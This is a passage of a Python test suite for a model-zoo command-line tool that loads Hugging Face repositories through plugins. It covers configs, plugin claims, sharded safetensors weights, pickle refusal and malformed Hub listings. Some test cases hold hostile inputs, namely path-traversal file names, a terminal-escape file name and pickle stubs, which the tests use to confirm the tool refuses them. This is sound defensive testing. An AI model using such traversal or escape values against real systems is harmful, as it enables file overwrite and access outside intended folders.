    for text in (b"{", b"[]", b"[" * 100_000, b'{"a": NaN}', b"\xff", b'{"a": ' + b"9" * 5000 + b"}"):
        hub.commit("me/toy", FILES | {"config.json": text})
        done = zoo("run", "hf:me/toy")
        assert (done.code, done.err.count("\n")) == (3, 1)
        assert "The config of hf:me/toy cannot be used" in done.err
    assert locked(site) == {}


def test_the_manifests_own_config_wins_over_the_files(hub: Any, zoo: Any, claim: Any) -> None:
    """A template may settle what a stranger's config may not."""
    package = claim(code={"plugin": "toy", "api": 1, "architecture": "grey", "config": {"width": 5}})
    hub.commit("me/toy", FILES)
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    assert json.loads((package / "opened.json").read_text())["config"] == CONFIG | {"width": 5}


@pytest.mark.parametrize(
    ("template", "sentence"),
    [
        (None, "small.json cannot be read"),
        ("{", "small.json, line 1"),
        ("[]", "small.json holds no JSON object"),
        ({"family": 7}, "family is 7"),
        ({"code": {}}, "code.plugin is missing"),
        ({"use": {"output": {"kind": "image", "shape": [9], "range": [0, 1]}}}, "shape is no [channels"),
        ({"terms": "none"}, ""),
    ],
)
def test_a_template_that_is_missing_or_broken_is_the_plugins_fault(
    hub: Any, zoo: Any, claim: Any, template: Any, sentence: str
) -> None:
    package = claim(template=template)
    if template is None:
        (package / "zoo" / "claims" / "small.json").unlink()
    hub.commit("me/toy", FILES)
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    if not sentence:  # the terms are optional; those of the weights come from the repository
        assert done.code == 0
        return
    assert done.code == 3
    last = done.err.splitlines()[-1]
    assert "toy-dist 1.0 claims hf:me/toy, but" in last
    assert sentence in last
    assert "aigc-zoo pull" not in last  # that would not mend it
    for command in ("show", "pull"):
        assert zoo(command, "hf:me/toy").code == 3


def test_two_plugins_that_claim_the_same_are_named_and_a_command_settles_it(hub: Any, zoo: Any, claim: Any) -> None:
    claim("one")
    claim("two")
    hub.commit("me/toy", FILES)
    done = zoo("run", "hf:me/toy")
    assert done.code == 2
    assert "hf:me/toy can be loaded by one-dist 1.0 and two-dist 1.0" in done.err
    command = done.err.partition("Choose: aigc-zoo ")[2].split()
    assert command[0] == "disable"
    assert zoo(*command).code == 0
    assert zoo("pull", "hf:me/toy").code == 0


def test_a_more_telling_field_decides_between_two_plugins(hub: Any, zoo: Any, claim: Any) -> None:
    one = claim(
        "one",
        claims={"model_type": {"toy": "small"}},
        code={"plugin": "one", "api": 1, "architecture": "grey", "config": {}},
    )
    claim("two", claims={"library_name": {"lib": "small"}})
    hub.commit("me/toy", FILES | {"README.md": b"---\nlicense: mit\nlibrary_name: lib\n---\n"})
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    assert (one / "opened.json").exists()


def test_a_disabled_plugins_claims_do_not_count(hub: Any, zoo: Any, toy: Path) -> None:
    hub.commit("me/toy", FILES)
    assert zoo("pull", "hf:me/toy").code == 0
    assert zoo("disable", "toy").code == 0
    done = zoo("run", "hf:me/toy")
    assert done.code == 3
    assert "No installed plugin can load hf:me/toy" in done.err
    assert zoo("enable", "toy-dist:toy").code == 0
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0


def test_an_incompatible_plugins_claims_do_not_count(hub: Any, zoo: Any, claim: Any) -> None:
    claim(api=99)
    hub.commit("me/toy", FILES)
    assert "No installed plugin can load hf:me/toy" in zoo("run", "hf:me/toy").err


# --- weights ---


def shards(folder: str = "", count: int = 2) -> dict[str, bytes]:
    """Return tensors in shards with their index."""
    names = [f"model-{number + 1:05}-of-{count:05}.safetensors" for number in range(count)]
    files = {folder + name: save({f"t{number}": np.ones(4, np.float32)}) for number, name in enumerate(names)}
    index = {"metadata": {}, "weight_map": {f"t{number}": name for number, name in enumerate(names)}}
    return files | {f"{folder}model.safetensors.index.json": json.dumps(index).encode()}


def sharded(**changes: bytes | None) -> dict[str, bytes]:
    files = {"config.json": FILES["config.json"], "README.md": CARD} | shards()
    return {path: data for path, data in (files | changes).items() if data is not None}


def test_shards_come_with_their_index(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", sharded() | {"model.bin": b"x", "extra.safetensors": WEIGHTS})
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    assert done.code == 0, done.err
    assert json.loads((toy / "opened.json").read_text())["files"] == sorted(sharded())
    assert {file["path"] for file in locked(site)["hf:me/toy"]["files"]} == set(sharded())


@pytest.mark.parametrize(
    ("index", "sentence"),
    [
        ({"weight_map": {"t": "gone.safetensors"}}, "names gone.safetensors, which is not there"),
        ({"weight_map": {"t": "../../secret.safetensors"}}, "which is no file beside it"),
        ({"weight_map": {"t": "/etc/x.safetensors"}}, "which is no file beside it"),
        ({"weight_map": {"t": "modeling.py"}}, "which is no file beside it"),
        ({"weight_map": {"t": 7}}, "which is no file beside it"),
        ({"weight_map": {}}, "has no weight_map"),
        ({}, "has no weight_map"),
        ([], "The index of the shards cannot be used"),
    ],
)
def test_an_index_that_leads_elsewhere_is_refused(
    hub: Any, zoo: Any, toy: Path, site: Any, index: Any, sentence: str
) -> None:
    hub.commit("me/toy", sharded(**{"model.safetensors.index.json": json.dumps(index).encode(), "modeling.py": b"1/0"}))
    done = zoo("run", "hf:me/toy")
    assert done.code == 4
    assert sentence in done.err
    assert asked_for(hub) == {"config.json", "README.md", "model.safetensors.index.json"}
    assert locked(site) == {}


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt", "a.pth", "x.ckpt", "encoder.pkl"])
def test_a_repository_with_pickles_only_is_refused_with_the_reason(
    hub: Any, zoo: Any, toy: Path, site: Any, name: str
) -> None:
    hub.commit("me/toy", {"config.json": FILES["config.json"], "README.md": CARD, name: b"\x80\x02."})
    done = zoo("run", "hf:me/toy")
    assert done.code == 4
    assert "its weights as a pickle only, which can run code when it is opened" in done.err
    assert "safetensors" in done.err
    assert name not in asked_for(hub)
    assert locked(site) == {}


@pytest.mark.parametrize(
    ("files", "sentence"),
    [
        ({}, "hf:me/toy has no safetensors file"),
        ({"a.safetensors": WEIGHTS, "b.safetensors": WEIGHTS}, "has 2 safetensors files and no index"),
        ({"folder/model.safetensors": WEIGHTS}, "hf:me/toy has no safetensors file"),
        ({"tf_model.h5": b"x", "flax.msgpack": b"x"}, "hf:me/toy has no safetensors file"),
    ],
)
def test_weights_that_are_not_clear_are_refused(
    hub: Any, zoo: Any, toy: Path, files: dict[str, bytes], sentence: str
) -> None:
    hub.commit("me/toy", {"config.json": FILES["config.json"], "README.md": CARD} | files)
    done = zoo("run", "hf:me/toy")
    assert done.code == 4
    assert sentence in done.err


def test_a_single_file_of_any_name_is_the_weights(hub: Any, zoo: Any, toy: Path) -> None:
    files = {"config.json": FILES["config.json"], "README.md": CARD, "taesd_decoder.safetensors": WEIGHTS}
    hub.commit("me/toy", files)
    assert zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy").code == 0
    assert json.loads((toy / "opened.json").read_text())["files"] == sorted(files)


# --- what the Hub may answer ---


def test_a_listing_with_paths_that_leave_the_folder_is_read_without_them(
    hub: Any, zoo: Any, toy: Path, site: Any
) -> None:
    commit = hub.commit("me/toy", FILES)
    rows = [
        {"rfilename": path, "size": blob.size, "blobId": blob.oid}
        | ({"lfs": {"size": blob.size, "sha256": blob.sha256}} if blob.lfs else {})
        for path, blob in hub.repo("me/toy").commits[commit].tree.items()
    ]
    evil = ["../../../evil.safetensors", "/tmp/evil.json", "a/../../vocab.json", "vocab.txt\n", "merges.txt\x1b[2J", ""]
    rows += [{**rows[0], "rfilename": path} for path in evil]
    rows += [{}, None, 7, {"rfilename": 7}, {"rfilename": "tokenizer.json", "size": -1, "blobId": "0" * 40}]
    answer = {"id": "me/toy", "sha": commit, "siblings": rows, "cardData": {"license": "mit"}, "tags": 7}
    listing = remote.parse(answer)
    assert listing
    assert set(listing.files) == set(FILES)
    hub.fault("/revision/main", "garbage", 1, json.dumps(answer).encode())
    done = zoo("run", "hf:me/toy", "-n", 1, "-o", "a.npy")
    assert done.code == 0, done.err
    assert {file["path"] for file in locked(site)["hf:me/toy"]["files"]} == set(FILES)
    assert not [path for path in site.root.rglob("*") if "evil" in path.name]


@pytest.mark.parametrize(
    "answer",
    [
        b"<html>", b"[]", b"{}", b'{"id": "me/toy"}', b'{"id": "me/toy", "sha": "main"}',
        b'{"id": "../x", "sha": "0000000000000000000000000000000000000000"}',
    ],
)  # fmt: skip
def test_an_answer_that_is_no_listing_pins_nothing(hub: Any, zoo: Any, toy: Path, site: Any, answer: bytes) -> None:
    hub.commit("me/toy", FILES)
    hub.fault("/revision/", "garbage", math.inf, answer)
    done = zoo("run", "hf:me/toy")
    assert done.code == 3
    assert done.err.count("\n") == 1
    assert locked(site) == {}


def test_another_commit_than_the_one_asked_for_is_no_answer(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    first = hub.commit("me/toy", FILES)
    second = hub.commit("me/toy", {"model.safetensors": OTHER})
    answer = {"id": "me/toy", "sha": second, "siblings": []}
    hub.fault(f"/revision/{first}", "garbage", math.inf, json.dumps(answer).encode())
    done = zoo("run", f"hf:me/toy@{first}")
    assert done.code == 3
    assert "with something that is no listing of it" in done.err
    assert locked(site) == {}


def test_the_users_lock_file_holds_many(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    for number in range(4):
        hub.commit(f"me/toy-{number}", FILES)
    for number in (2, 0, 3, 1):
        assert zoo("pull", f"hf:me/toy-{number}").code == 0
    assert [*locked(site)] == [f"hf:me/toy-{number}" for number in range(4)]


def test_what_the_lock_file_says_is_not_changed_by_who_reads_it(hub: Any, zoo: Any, toy: Path, site: Any) -> None:
    hub.commit("me/toy", FILES)
    zoo("pull", "hf:me/toy")
    before = copy.deepcopy(locked(site))
    for command in (
        ["show", "hf:me/toy"],
        ["run", "hf:me/toy", "-n", 1, "-o", "a.npy"],
        ["pull", "hf:me/toy"],
        ["list"],
    ):
        assert zoo(*command).code == 0
    assert locked(site) == before
